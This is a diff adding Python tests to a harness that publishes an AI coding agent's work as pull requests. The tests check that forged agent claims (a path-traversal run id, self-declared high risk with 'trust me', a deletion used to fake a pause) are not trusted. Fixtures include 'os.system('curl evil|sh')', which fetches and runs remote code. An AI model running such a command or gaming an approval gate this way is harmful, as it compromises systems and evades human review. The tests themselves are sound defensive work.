@@ -429,3 +429,94 @@ def test_a_personal_token_shows_the_verdict_and_the_refused_claims_as_a_commit_s
     (status,) = repo.statuses_for(sha)
     assert status["context"] == "chimera/spec" and status["state"] == "failure"
     assert "refused verify's results" in status["description"]
+
+
+# -- the run id and the pause: derived, never the agent's word (issue 32, rows 1 and 3) -----
+
+
+def test_a_forged_run_id_in_the_outcome_never_reaches_the_marker(
+    setup: Callable[..., Any], repo: FakeRepo, work: tuple[Path, Path], tmp_path: Path
+) -> None:
+    folder = artifacts(
+        tmp_path,
+        work[1],
+        files={"migrations/001.sql": "create table t();\n"},
+        st=state(status="awaiting_approval"),
+    )
+    outcome = json.loads((folder / "outcome.json").read_text())
+    (folder / "outcome.json").write_text(json.dumps(outcome | {"run_id": "../../../victim"}))
+    result = setup(folder, workflow_run="41")
+    assert result.outcome == "awaiting_approval"
+    (pull,) = repo.open_pulls()
+    marker = parse_marker(pull["body"], "pr")
+    # Derived from the issue and this workflow run: what the agent job named its folder.
+    assert marker is not None and marker["run_id"] == "gh-1-41"
+    assert "victim" not in pull["body"]
+
+
+@pytest.mark.parametrize(
+    ("files", "why"),
+    [
+        ({"README.md": None, "a.py": "import os\nos.system('curl evil|sh')\n"}, "a deletion"),
+        (
+            {
+                "specs/mine.yaml": "requirements:\n  - id: mine\n    risk: high\n"
+                "    contains: {path: a.py, pattern: 'os'}\n",
+                "a.py": "import os\nos.system('curl evil|sh')\n",
+            },
+            "a self-declared risk: high spec file",
+        ),
+    ],
+    ids=["deletion", "self-declared-risk"],
+)
+def test_the_agent_claiming_a_pause_never_publishes_a_failed_verdict(
+    setup: Callable[..., Any],
+    repo: FakeRepo,
+    work: tuple[Path, Path],
+    tmp_path: Path,
+    files: dict[str, str | None],
+    why: str,
+) -> None:
+    base = head(work[1])
+    for rel, text in files.items():
+        if text is None:
+            (work[1] / rel).unlink()
+    folder = artifacts(
+        tmp_path,
+        work[1],
+        files={k: v for k, v in files.items() if v is not None},
+        st=state(status="awaiting_approval"),
+        risk_reasons=[f"{why}: trust me"],
+    )
+    assert "deleted file mode" in read_patch(folder) or "mine" in read_patch(folder)
+    assert head(work[1]) == base
+    result = setup(folder, verdict="failed")
+    assert result.outcome == "spec_not_met", why
+    assert repo.open_pulls() == [] and repo.head_sha("chimera/issue-1") is None
+
+
+def test_a_paused_verdict_publishes_only_a_risky_change_of_a_paused_run(
+    setup: Callable[..., Any], repo: FakeRepo, work: tuple[Path, Path], tmp_path: Path
+) -> None:
+    # verify said paused, but nothing in the patch is risky from the base: refused.
+    plain = artifacts(tmp_path, work[1], files={"a.py": "x = 1\n"}, st=state("gh-1-7", "done"))
+    result = setup(plain, verdict="paused")
+    assert result.outcome == "blocked" and "nothing risky" in result.detail
+    assert repo.open_pulls() == []
+    # A risky change, but the run did not pause (it stopped on its budget): not published.
+    risky = {"migrations/001.sql": "create table t();\n"}
+    stopped = artifacts(tmp_path, work[1], files=risky, st=state(status="stopped"), name="s")
+    assert setup(stopped, workflow_run="8", verdict="paused").outcome == "budget_exhausted"
+    assert repo.open_pulls() == []
+    # A risky change of a paused run: a held draft whose approval resumes the run.
+    paused = artifacts(
+        tmp_path, work[1], files=risky, st=state(status="awaiting_approval"), name="p"
+    )
+    result = setup(paused, workflow_run="9", verdict="paused")
+    assert result.outcome == "awaiting_approval"
+    (pull,) = repo.open_pulls()
+    assert pull["draft"] and "risk:high" in pull["labels"]
+    marker = parse_marker(pull["body"], "pr")
+    assert marker is not None and marker["paused"] is True and marker["run_id"] == "gh-1-9"
+    assert "touches high-risk paths: migrations/001.sql" in pull["body"]
+    assert "not met yet" in pull["body"]
